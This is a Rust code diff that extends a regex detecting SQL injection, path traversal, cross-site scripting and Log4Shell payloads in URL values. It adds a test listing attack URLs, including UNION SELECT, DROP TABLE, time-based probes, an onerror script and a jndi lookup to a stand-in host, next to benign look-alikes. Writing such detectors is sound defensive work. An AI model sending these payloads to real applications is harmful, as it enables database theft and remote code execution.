@@ -364,9 +364,27 @@ pub(super) fn account(e: &Event) -> Option<&str> {
     e.account_id.as_deref()
 }
 
+/// Payloads in a decoded URL value: a quote closing a value then a test (`' OR 'x' IS
+/// NOT NULL`, `") OR ("1"="1`, `'or''='`), `OR 1=1`, a quote ending the statement
+/// (`admin'--`), UNION SELECT (comments between the words too), stacked statements,
+/// time-based, error-based and catalog probes, file reads and writes, path traversal,
+/// script tags and handlers, and Log4Shell's lookup. Word boundaries are ASCII ones,
+/// which the regex engine's DFA runs on any text.
 static URL_INJECTION: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?i)('|%27)\s*(or|and)\s+[\w'%]+\s*=|union(\s|\+|%20)+(all(\s|\+|%20)+)?select|(\.\./|\.\.%2f|%2e%2e)|/etc/passwd|sleep\(|benchmark\(|information_schema|<script|%3cscript|\bor(\s|\+|%20)+1(\s|\+|%20)*(=|%3d)(\s|\+|%20)*1")
-        .expect("static regex")
+    Regex::new(concat!(
+        r#"(?i)('|%27|"|\))\s*((?-u:\b)or(?-u:\b)|(?-u:\b)and(?-u:\b)|\|\||&&)\s*[\w'"%().-]+\s*(=|<>|!=|<|>|(?-u:\b)is\s|(?-u:\b)in\s*\(|(?-u:\b)like\s|(?-u:\b)between\s|(?-u:\b)regexp\s)"#,
+        r#"|'\s*or\s*'[^']*'\s*=\s*'"#,
+        r#"|(?-u:\b)or(\s|\+|%20)+(1|true)(?-u:\b)(\s|\+|%20)*((=|%3d)(\s|\+|%20)*1|--|#|$)"#,
+        r#"|'\s*(--|#|;)"#,
+        r#"|union(\s|\+|%20|/\*.*?\*/)+(all(\s|\+|%20|/\*.*?\*/)+)?select"#,
+        r#"|;\s*(select|drop|insert|update|delete|shutdown|exec)\s"#,
+        r#"|sleep\s*\(|benchmark\s*\(|waitfor\s+delay|extractvalue\s*\(|updatexml\s*\("#,
+        r#"|information_schema|pg_catalog\.|load_file\s*\(|into\s+(out|dump)file"#,
+        r#"|(\.\./|\.\.\\|\.\.%2f|%2e%2e)|/etc/passwd|win\.ini"#,
+        r#"|<script|%3cscript|<(svg|img|iframe|body)(?-u:\b)[^>]*(?-u:\b)on\w+\s*=|javascript:"#,
+        r#"|\$\{jndi:"#,
+    ))
+    .expect("static regex")
 });
 
 fn decode(s: &str) -> String {
@@ -790,4 +808,45 @@ fn injected(e: &Event) -> bool {
     (e.sql.as_ref())
         .and_then(|f| f.injection.as_deref())
         .is_some_and(|m| !crate::sql::server_tool(m))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn url_payloads_and_values_that_only_look_alike() {
+        for hit in [
+            "/api/v1/customers?id=1' OR '1'='1",
+            "/api/v1/customers?email=' OR 'x' IS NOT NULL--",
+            "/api/v1/customers?email=\") OR (\"1\"=\"1",
+            "/api/v1/customers?id=1') OR 1 IN (1)-- -",
+            "/api/v1/auth/login?user='or''='",
+            "/api/v1/auth/login?user=admin'--",
+            "/api/v1/menu/1 OR 1=1",
+            "/api/v1/menu/1 or true--",
+            "/api/v1/menu/1 UNION/**/SELECT email FROM customers",
+            "/api/v1/menu/1; DROP TABLE customers",
+            "/api/v1/menu/1 AND extractvalue(1, concat(0x7e, version()))",
+            "/api/v1/menu/1 AND pg_sleep(5)",
+            "/api/v1/menu/1;waitfor delay '0:0:5'",
+            "/static/..\\..\\windows\\win.ini",
+            "/search?q=<img src=x onerror=alert(1)>",
+            "/search?q=${jndi:ldap://evil.example/a}",
+        ] {
+            assert!(URL_INJECTION.is_match(hit), "{hit}");
+        }
+        for benign in [
+            "/api/v1/menu/items?category=drinks&sort=price",
+            "/search?q=rock and roll",
+            "/api/v1/customers?name=O'Brien",
+            "/api/v1/customers?email=o'neil@example.com",
+            "/search?q=don't or do = maybe",
+            "/search?q=Tom & Jerry",
+            "/api/v1/orders/8812?note=ring twice; leave at door",
+            "/api/v1/menu/{itemId}",
+        ] {
+            assert!(!URL_INJECTION.is_match(benign), "{benign}");
+        }
+    }
 }
